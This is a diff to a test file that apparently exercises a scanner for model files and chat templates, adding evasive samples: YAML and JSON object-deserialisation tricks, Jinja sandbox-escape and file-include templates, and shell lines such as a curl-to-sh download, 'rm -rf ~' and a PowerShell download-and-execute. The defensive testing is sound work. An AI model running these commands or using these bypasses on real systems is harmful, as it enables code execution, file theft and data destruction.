@@ -55,6 +55,24 @@ FILES: dict[str, bytes] = {
     "page": b"<!DOCTYPE html>\n<script>1</script>",
     "vector picture": b"<?xml version='1.0'?><svg onload='1'/>",
     "yaml with objects": b"a: !!python/object/apply:os.getcwd []\n",
+    "yaml with objects by their tag": b"a: !<tag:yaml.org,2002:python/object/apply:os.getcwd> []\n",
+    "yaml with objects by a name for it": b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.getcwd []\n",
+    "page behind a comment": b"<!-- text -->\n<html><script>1</script></html>\n",
+    "python source with form feeds": b"x = 1\n\x0cfrom\x0cos\x0cimport\x0cgetcwd\n",
+    "python source with old line ends": b"x = 1\rimport os\ros.getcwd()\r",
+    "python source in utf-7": b"# coding: utf-7\n#+AAo-import os; os.getcwd()\n",
+    "python source that begins as a template": b"{# #}\n}\nimport os\nos.getcwd()\n",
+    "python source in one output of a template": b"{{ print('x') or 1 }}\n",
+    "keras architecture": b'{"\\u0063lass_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}}',
+    "json with objects": b'{"a": {"py\\/reduce": [{"py/function": "os.getcwd"}]}}',
+    "json with a template behind blanks": (
+        b'{"processor": {"chat_template": "{% include \'/etc/passwd\' %}"}}' + b" " * 4_300_000
+    ),
+    "json with a template and another one": (
+        b'{"chat_template": "{{ messages.__class__ }}", "chat_template": "a", "b": "' + b"x" * 4_300_000 + b'"}'
+    ),
+    "json with a template that is too long": b'{"chat_template": "' + b"x" * 5_000_000 + b'"}',
+    "json with nothing but templates": b"[" + b'{"chat_template": "{{ 1 }}"},' * 20_000 + b"1]",
     "hdf5": b"\x89HDF\r\n\x1a\n" + b"\0" * 100,
     "hdf5 behind a user block": b"\0" * 512 + b"\x89HDF\r\n\x1a\n",
     "keras lambda": b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}',
@@ -81,6 +99,16 @@ FILES: dict[str, bytes] = {
 }  # fmt: skip
 """Every kind by its name."""
 
+UNDECIDED: dict[str, bytes] = {
+    "shell": b"curl https://example.org/x | sh\nrm -rf ~\n",
+    "powershell": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('https://example.org')\n",
+    "javascript": b"require('child_process').execSync('id');\n",
+    "a command": b"reboot\n",
+    "labels": b"crane (bird)\ncrane (machine)\n",
+    "a long list": b"word word\n" * 2_500_000 + "\U0001f600\n".encode(),
+}
+"""Texts that some interpreter would run, or that look as if, and that are neither blocked nor called clean."""
+
 TEMPLATES: dict[str, str] = {
     "nested loops": "{% for a in range(9000) %}{% for b in range(9000) %}x{% endfor %}{% endfor %}",
     "a long range": "{% for a in range(1000000000) %}x{% endfor %}",
@@ -104,6 +132,12 @@ TEMPLATES: dict[str, str] = {
     "class by filter": "{{ messages | attr('__class__') }}",
     "class in pieces": "{{ messages['__cla' ~ 'ss__'] }}",
     "class in escapes": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
+    "class by a name": "{% set c = '__class__' %}{{ messages[0][c] }}",
+    "class by a filter of it": "{{ messages['__class__' | lower] }}",
+    "class by an index put together": "{{ messages['%s%sclass%s%s' | format('_', '_', '_', '_')] }}",
+    "class by a list": "{{ messages[['_', '_class_', '_'] | join] }}",
+    "class by a filter and pieces": "{{ '' | attr('_' ~ '_class_' ~ '_') }}",
+    "class by a filter and a name": "{% set c = 'x' %}{{ '' | attr(c) }}",
     "globals": "{{ cycler.__init__.__globals__.os }}",
     "another file": "{% include '/etc/passwd' %}",
     "another file in a branch": "{% if false %}{% import '/etc/passwd' as x %}{% endif %}{{ messages }}",
